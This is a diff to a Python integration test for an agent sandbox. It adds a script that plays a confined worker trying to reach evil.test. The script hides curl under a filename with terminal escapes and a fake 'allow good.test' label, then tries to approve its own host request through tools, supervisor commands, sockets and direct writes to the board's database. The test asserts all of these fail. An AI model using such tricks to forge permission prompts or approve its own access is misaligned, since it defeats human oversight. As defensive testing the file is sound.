@@ -1,10 +1,13 @@
-"""A worker that wants to reach more hosts than it was given: from inside, and by what it leaves for the next.
+"""A worker that wants to reach more hosts than it was given: from inside, by what it leaves for the next, and
+by answering for itself what somebody is asked about it.
 
 One host is allowed and works. Another machine's part is played by a server that every attempt would reach,
 and that must never hear of one.
 """
 
 import json
+import re
+import shlex
 import socket
 import sys
 import threading
@@ -19,9 +22,11 @@ from holdfast.agents.catalog.codex import CODEX
 from holdfast.agents.catalog.known import read_known
 from holdfast.agents.sdk import Workers
 from holdfast.agents.worker.launching import WorkerSpec, prepare
+from holdfast.board.rules.transitions import TaskStatus
 from holdfast.errors import UsageError
 from holdfast.wire.permissions import AllowedHosts
 from tests.integration.test_worker_commands import place
+from tests.support.dispatch import own_yard
 from tests.support.patience import patient
 from tests.support.tiers import asyncio_first
 from tests.support.webhosts import web_hosts
@@ -118,6 +123,82 @@ PLANTED: Final = {
 }
 
 
+# Runs inside, in a task of a board: wants to reach a host, and meanwhile tries to say yes to that itself.
+ANSWERING: Final = r"""
+import json, os, shutil, socket, sqlite3, subprocess, sys
+
+port, home, address = int(sys.argv[1]), *sys.argv[2:4]
+with open(os.environ["HOLDFAST_RUN"]) as file:
+    grant = json.load(file)
+task, worker = grant["task"], grant["run"].replace("_", "-")
+host = f"evil.test:{port}"
+words = {"answer": "yes", "host": host}
+forged = "x\x1b[2J\r\nallow good.test \u202e"
+shutil.copy(shutil.which("curl"), forged)
+fetching = subprocess.Popen(["./" + forged, "-sS", "--fail", f"http://{host}/stolen"])
+
+from holdfast.handoff.sender import Sender
+from holdfast.board.store import open_store
+
+
+def holdfast(*more, said=None):
+    environ = {**os.environ, "HOLDFAST_HOME": home, "HOLDFAST_STORE": address}
+    argv = [sys.executable, "-P", "-m", "holdfast", *more]
+    done = subprocess.run(argv, env=environ, input=said, capture_output=True, text=True, timeout=60)
+    return done.stdout if done.returncode == 0 else None
+
+
+def call_tool(name, *options, **said):
+    first = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}
+    tool = {"name": name, "arguments": {"task_id": task, **said}}
+    asked = [("initialize", first), ("tools/call", tool)]
+    lines = [{"jsonrpc": "2.0", "id": n, "method": m, "params": p} for n, (m, p) in enumerate(asked)]
+    told = holdfast("mcp", *options, said="".join(json.dumps(line) + "\n" for line in lines)) or ""
+    return told if '\\"ok\\":true' in told else None
+
+
+def approve():
+    for name in ("supervisor.sock", "exec.sock", "dispatch.sock"):
+        try:
+            with socket.socket(socket.AF_UNIX) as sock:
+                sock.connect(os.path.join(home, name))
+                return name
+        except OSError:
+            pass
+
+
+def write_store():
+    with sqlite3.connect(address) as database:
+        return database.execute("UPDATE answers SET answer = question RETURNING name").fetchall()
+
+
+run = os.environ["HOLDFAST_RUN"]
+attempts = {
+    "a comment by its tools": lambda: call_tool("kanban_comment", "--run", run, body="b"),
+    "a comment": lambda: Sender.find().send("comment", {"body": "begun"}),
+    "a verb of its own channel": lambda: Sender.find().send("answer", words),
+    "a verb of its own channel, for its task": lambda: Sender.find().send("answer", {**words, "task": task}),
+    "the tools of its run": lambda: call_tool("kanban_answer", "--run", run, **words),
+    "the tools of the board": lambda: call_tool("kanban_answer", "--board", "b", **words),
+    "the command of a person": lambda: holdfast("task", "answer", task, "yes", host),
+    "the command of the supervisor": lambda: holdfast("worker", "approve", worker),
+    "the sockets of the home": approve,
+    "the board's verbs": lambda: open_store(address, create=False).answer_host(task, "yes", host),
+    "the board's file": write_store,
+}
+found = {}
+for name, attempt in attempts.items():
+    try:
+        found[name] = None if (got := attempt()) is None else str(got)[:200]
+    except Exception as exc:
+        found[name] = None
+with open("found.json.tmp", "w") as file:
+    json.dump(found, file)
+os.rename("found.json.tmp", "found.json")
+sys.exit(0 if fetching.wait() else 1)
+"""
+
+
 @contextmanager
 def evil_server() -> Iterator[tuple[int, list[bytes]]]:
     """Its port, and what anybody said to it."""
@@ -183,3 +264,37 @@ async def test_a_worker_reaches_its_one_host_and_leaves_nothing_that_widens_the_
                     assert ready.policy.wish.hosts.allow == CODEX.reach.hosts
             with pytest.raises(UsageError, match="planted"):
                 await workers.run("planted", cwd=str(here.work), prompt="x")
+
+
+async def test_a_worker_of_the_board_cannot_answer_for_itself_nor_for_another(tmp_path: Path) -> None:
+    """Two runs ask about the same host. What a person says about one changes nothing for the other."""
+    with web_hosts(tmp_path) as servers:
+        port = servers.ports["plain"]
+        async with own_yard() as yard:
+            hosts: dict[str, object] = {f"known.test:{port}": "allow", "private": True}
+            hosts["addresses"] = {"evil.test": "127.0.0.1"}
+            yard.profile(
+                "asks", agent="shell", prompt="{body}", success="exit", hosts=hosts, ask_network=True
+            )
+            (yard.folder / "code").mkdir()
+            (yard.folder / "code" / "try.py").write_text(ANSWERING, "utf-8")
+            words = [str(yard.folder / "code" / "try.py"), str(port), str(yard.home), yard.address]
+            attacker = yard.create(shlex.join([sys.executable, "-P", *words]), assignee="asks")
+            other = yard.create(f"curl -sS --fail http://evil.test:{port}/allowed", assignee="asks")
+            async with yard.dispatching(most=2):
+                place = yard.home / "board" / attacker.id
+                await yard.when((place / "found.json").exists)
+                await yard.when(lambda: len(yard.store.asking_tasks("b")) == 2)
+                found = json.loads((place / "found.json").read_text("utf-8"))
+                assert None not in (found.pop("a comment"), found.pop("a comment by its tools"))
+                assert {name: got for name, got in found.items() if got is not None} == {}
+                [asked] = yard.store.asking_tasks("b")[attacker.id]
+                assert re.fullmatch(r"[ -~]+allow good\.test \?", asked.program), asked
+                assert asked.host == f"evil.test:{port}"
+                yard.store.answer_host(other.id, "yes", asked.host, who="ada")
+                await yard.until(other, TaskStatus.DONE)
+                assert [one.host for one in yard.store.asking_tasks("b")[attacker.id]] == [asked.host]
+                yard.store.answer_host(attacker.id, "no", asked.host, who="ada")
+                await yard.until(attacker, TaskStatus.DONE)
+            arrived = [seen.data.split(b" ")[1] for seen in servers.seen if seen.data]
+            assert arrived == [b"/allowed"]
